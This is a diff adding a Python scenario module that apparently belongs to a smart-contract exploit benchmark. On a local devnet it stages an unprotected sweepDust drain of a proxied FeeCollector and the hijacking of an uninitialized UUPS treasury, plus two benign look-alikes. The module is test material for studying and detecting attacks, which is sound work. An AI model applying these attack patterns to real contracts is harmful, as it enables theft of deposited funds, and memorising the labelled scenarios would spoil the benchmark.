@@ -1,0 +1,200 @@
+"""Proxies: a transparent-proxy fee collector and a UUPS treasury, each attacked and used honestly.
+
+- `gen-proxy-unprotected-sweep`: FeeCollector (behind a TransparentProxy) forgot the treasurer
+  check on `sweepDust`; mallory, who never had any role, calls it from her EOA.
+- `gen-proxy-fee-withdrawal` (benign): the treasurer withdraws collected fees through the proxy.
+- `gen-uups-uninitialized`: a UUPS proxy deployed without its initializer call; mallory's contract
+  initializes it, becomes owner and `upgradeToAndCall`s a sweeper implementation.
+- `gen-uups-admin-upgrade` (benign): the owner upgrades an initialized UUPS proxy to V2.
+"""
+
+from __future__ import annotations
+
+from timemachine.catalog.builder import ETHER
+from timemachine.catalog.devnet import actor_address
+from timemachine.catalog.exploit import check_payout, mine_exploit
+from timemachine.catalog.models import ScenarioRecord
+from timemachine.catalog.scenarios.base import Scenario
+from timemachine.catalog.scenarios.contract import Contract
+from timemachine.catalog.scenarios.generalization.kit import (
+    ATTACKER,
+    bind,
+    deploy_own,
+    expect,
+    honest,
+)
+from timemachine.catalog.scenarios.world import World
+
+TREASURER = "grace"
+FEES = {"alice": 3, "bob": 5, "carol": 2, "heidi": 4}
+WITHDRAWN = 6 * ETHER
+UPGRADE_GAS = 600_000
+TREASURY_DEPOSITS = {"bob": 9, "dave": 6, "frank": 5}
+
+
+async def _fee_collector(world: World, label: str) -> Contract:
+    """A FeeCollector behind a TransparentProxy (admin: deployer), merchants' fees paid in."""
+    chain = world.chain
+    implementation = await deploy_own(chain, "deployer", "FeeCollector", name=f"{label} impl")
+    await chain.mine()
+    init = implementation.artifact.calldata("initialize", actor_address(TREASURER))
+    proxy = await deploy_own(
+        chain,
+        "deployer",
+        "TransparentProxy",
+        implementation.address,
+        actor_address("deployer"),
+        init,
+        name=label,
+    )
+    await chain.mine()
+    collector = bind(chain, proxy.address, "FeeCollector", label)
+    await collector.fund("payFee", FEES)
+    return collector
+
+
+async def stage_fee_withdrawal(world: World) -> ScenarioRecord:
+    collector = await _fee_collector(world, "FeeCollector proxy (benign)")
+    tx = await collector.send(TREASURER, "withdrawFees", actor_address(TREASURER), WITHDRAWN)
+    block = await world.chain.mine()
+    held = sum(FEES.values()) * ETHER
+    await check_payout(
+        world.chain,
+        tx,
+        block,
+        contract=collector.address,
+        held=held,
+        left=held - WITHDRAWN,
+        payee=TREASURER,
+        paid=WITHDRAWN,
+        what="fee withdrawal",
+    )
+    return honest(FEE_WITHDRAWAL, tx, block.number, TREASURER)
+
+
+async def stage_unprotected_sweep(world: World) -> ScenarioRecord:
+    chain = world.chain
+    collector = await _fee_collector(world, "FeeCollector proxy")
+    await collector.send(TREASURER, "withdrawFees", actor_address(TREASURER), WITHDRAWN)
+    await chain.mine()
+    drain = await mine_exploit(
+        chain,
+        lambda: collector.send(ATTACKER, "sweepDust", actor_address(ATTACKER)),
+        victim=collector.address,
+        attacker=actor_address(ATTACKER),
+        held=sum(FEES.values()) * ETHER - WITHDRAWN,
+        left=0,
+        what="unprotected sweep",
+    )
+    return UNPROTECTED_SWEEP.exploited(
+        drain, attacker=actor_address(ATTACKER), contracts=[], victims=[collector.address]
+    )
+
+
+async def _treasury(world: World, label: str, *, initialized: bool) -> Contract:
+    """A UupsTreasury behind a UupsProxy with users' deposits (initializer called or forgotten)."""
+    chain = world.chain
+    implementation = await deploy_own(chain, "deployer", "UupsTreasury", name=f"{label} impl")
+    await chain.mine()
+    init = b""
+    if initialized:
+        init = implementation.artifact.calldata("initialize", actor_address("deployer"))
+    proxy = await deploy_own(
+        chain, "deployer", "UupsProxy", implementation.address, init, name=label
+    )
+    await chain.mine()
+    treasury = bind(chain, proxy.address, "UupsTreasury", label)
+    await treasury.fund("deposit", TREASURY_DEPOSITS)
+    await treasury.send("bob", "withdraw", 2 * ETHER)
+    await chain.mine()
+    return treasury
+
+
+async def stage_uups_hijack(world: World) -> ScenarioRecord:
+    chain = world.chain
+    treasury = await _treasury(world, "UupsTreasury proxy", initialized=False)
+    sweeper = await deploy_own(chain, ATTACKER, "EtherSweeperImpl")
+    hijacker = await deploy_own(chain, ATTACKER, "ProxyHijacker")
+    await chain.mine()
+    drain = await mine_exploit(
+        chain,
+        lambda: hijacker.send(
+            ATTACKER, "hijack", treasury.address, sweeper.address, gas=UPGRADE_GAS
+        ),
+        victim=treasury.address,
+        attacker=actor_address(ATTACKER),
+        held=(sum(TREASURY_DEPOSITS.values()) - 2) * ETHER,
+        left=0,
+        what="UUPS hijack",
+    )
+    # the proxy now runs the sweeper, which has no getters: read the owner slot (0) directly
+    owner = await chain.rpc.call("eth_getStorageAt", [treasury.address, "0x0", "latest"])
+    expect("hijacked owner", int(owner, 16), int(hijacker.address, 16))
+    return UUPS_HIJACK.exploited(
+        drain,
+        attacker=actor_address(ATTACKER),
+        contracts=[hijacker.address, sweeper.address],
+        victims=[treasury.address],
+    )
+
+
+async def stage_admin_upgrade(world: World) -> ScenarioRecord:
+    chain = world.chain
+    treasury = await _treasury(world, "UupsTreasury proxy (benign)", initialized=True)
+    v2 = await deploy_own(chain, "deployer", "UupsTreasuryV2")
+    await chain.mine()
+    expect("version before", await treasury.call("version"), 1)
+    tx = await treasury.send("deployer", "upgradeToAndCall", v2.address, b"", gas=UPGRADE_GAS)
+    block = await chain.mine()
+    expect("version after", await treasury.call("version"), 2)
+    expect("funds after", await chain.balance(treasury.address), 18 * ETHER)
+    return honest(ADMIN_UPGRADE, tx, block.number, "deployer")
+
+
+UNPROTECTED_SWEEP = Scenario(
+    id="gen-proxy-unprotected-sweep",
+    title="FeeCollector behind a transparent proxy: anyone may sweep it",
+    description=(
+        "FeeCollector (a TransparentProxy implementation) has an owner-only withdrawFees and a "
+        "sweepDust that forgot its modifier. Mallory, who never had a role, calls sweepDust "
+        "through the proxy from her EOA and takes the 8 ETH of fees left."
+    ),
+    vulnerability_class="missing_access_control",
+    stage=stage_unprotected_sweep,
+    severity="critical",
+    loss_text="all fees held by the collector (8 ETH)",
+)
+FEE_WITHDRAWAL = Scenario(
+    id="gen-proxy-fee-withdrawal",
+    title="FeeCollector behind a transparent proxy: the treasurer withdraws fees (benign)",
+    description=(
+        "Benign look-alike of gen-proxy-unprotected-sweep: the treasurer set at initialization "
+        "withdraws 6 of the 14 ETH of fees through the proxy."
+    ),
+    vulnerability_class="none",
+    stage=stage_fee_withdrawal,
+)
+UUPS_HIJACK = Scenario(
+    id="gen-uups-uninitialized",
+    title="Uninitialized UUPS proxy: initialized by the attacker, upgraded to a sweeper",
+    description=(
+        "A UupsTreasury proxy was deployed without its initializer call and users deposited "
+        "18 ETH. Mallory's ProxyHijacker calls initialize (becoming owner), then "
+        "upgradeToAndCall with her EtherSweeperImpl, which in the proxy's context sends the "
+        "whole balance to her."
+    ),
+    vulnerability_class="access_control",
+    stage=stage_uups_hijack,
+    severity="critical",
+    loss_text="every deposit of the treasury (18 ETH)",
+)
+ADMIN_UPGRADE = Scenario(
+    id="gen-uups-admin-upgrade",
+    title="UUPS proxy upgraded to V2 by its owner (benign)",
+    description=(
+        "Benign look-alike of gen-uups-uninitialized: the owner of an initialized UupsTreasury "
+        "proxy upgrades it to UupsTreasuryV2 with upgradeToAndCall; no funds move."
+    ),
+    vulnerability_class="none",
+    stage=stage_admin_upgrade,
+)
